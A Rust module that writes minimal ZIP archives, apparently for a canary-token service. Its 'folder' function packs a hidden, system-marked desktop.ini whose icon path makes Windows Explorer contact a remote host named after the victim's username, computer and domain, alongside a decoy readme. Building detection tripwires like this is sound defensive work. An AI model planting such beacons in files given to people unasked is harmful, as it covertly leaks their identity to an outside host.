//! ZIP (APPNOTE 6.3), as little of it as documents and folders need.

use super::{Body, Task};
use flate2::{Compression, Crc, write::DeflateEncoder};
use std::io::Write;

/// Marks of a file on Windows: read-only, hidden, system; folder (APPNOTE 4.4.15, MS-DOS attributes).
pub(super) const HIDDEN_SYSTEM: u32 = 0x06;
const FOLDER_SYSTEM: u32 = 0x14;

/// A file in an archive.
pub(super) struct Part<'a> {
    pub(super) name: &'a str,
    pub(super) content: Vec<u8>,
    /// Marks of Windows.
    pub(super) marks: u32,
}

impl<'a> Part<'a> {
    pub(super) fn new(name: &'a str, content: impl Into<Vec<u8>>) -> Part<'a> {
        Part { name, content: content.into(), marks: 0x20 }
    }
}

/// An archive of `parts`, packed, all of the same moment as DOS writes it (date, time).
pub(super) fn archive(parts: &[Part<'_>], moment: (u16, u16)) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for part in parts {
        let mut crc = Crc::new();
        crc.update(&part.content);
        let folder = part.name.ends_with('/');
        let packed = if folder { Vec::new() } else { deflated(&part.content) };
        let method: u16 = if folder { 0 } else { 8 };
        let offset = number(out.len());
        let mut common = Vec::new();
        for field in [20_u16, 0, method, moment.1, moment.0] {
            common.extend_from_slice(&field.to_le_bytes());
        }
        for field in [crc.sum(), number(packed.len()), number(part.content.len())] {
            common.extend_from_slice(&field.to_le_bytes());
        }
        let length = u16::try_from(part.name.len()).unwrap_or(0);
        common.extend_from_slice(&length.to_le_bytes());
        common.extend_from_slice(&0_u16.to_le_bytes());
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&common);
        out.extend_from_slice(part.name.as_bytes());
        out.extend_from_slice(&packed);
        directory.extend_from_slice(b"PK\x01\x02\x14\x00");
        directory.extend_from_slice(&common);
        directory.extend_from_slice(&[0; 6]);
        directory.extend_from_slice(&part.marks.to_le_bytes());
        directory.extend_from_slice(&offset.to_le_bytes());
        directory.extend_from_slice(part.name.as_bytes());
    }
    let at = number(out.len());
    out.extend_from_slice(&directory);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    let count = u16::try_from(parts.len()).unwrap_or(0).to_le_bytes();
    out.extend_from_slice(&count);
    out.extend_from_slice(&count);
    out.extend_from_slice(&number(directory.len()).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

/// A moment as DOS writes it: date and time, of the calendar of `now`.
pub(super) fn dos(now: i64) -> (u16, u16) {
    let text = netsvc_wire::stamp::format(now);
    let part =
        |from: usize, to: usize| text.get(from..to).and_then(|part| part.parse::<u16>().ok()).unwrap_or(0);
    let date = (part(0, 4).saturating_sub(1980) << 9) | (part(5, 7) << 5) | part(8, 10);
    (date, (part(11, 13) << 11) | (part(14, 16) << 5) | (part(17, 19) / 2))
}

fn number(length: usize) -> u32 {
    u32::try_from(length).unwrap_or(u32::MAX)
}

fn deflated(content: &[u8]) -> Vec<u8> {
    let mut packer = DeflateEncoder::new(Vec::new(), Compression::default());
    // Writing to memory does not fail.
    let _ = packer.write_all(content);
    packer.finish().unwrap_or_default()
}

/// A folder whose icon Explorer looks for on a server that does not exist: the name says who looked
/// (environment variables in `desktop.ini` are expanded).
pub(super) fn folder(task: &mut Task<'_>) -> Body {
    let name = task.name("").unwrap_or_default();
    let settings = format!(
        "\r\n[.ShellClassInfo]\r\nIconResource=\\\\%USERNAME%.%COMPUTERNAME%.%USERDOMAIN%.ini.{name}\\resource.dll\r\n"
    );
    let note = "This folder moved to the file server. Ask the service desk for access.\r\n";
    let parts = [
        Part { name: "Documents/", content: Vec::new(), marks: FOLDER_SYSTEM },
        Part { marks: HIDDEN_SYSTEM, ..Part::new("Documents/desktop.ini", settings) },
        Part::new("Documents/readme.txt", note),
    ];
    Body { content: archive(&parts, dos(task.now)), lead: name, secrets: Vec::new() }
}
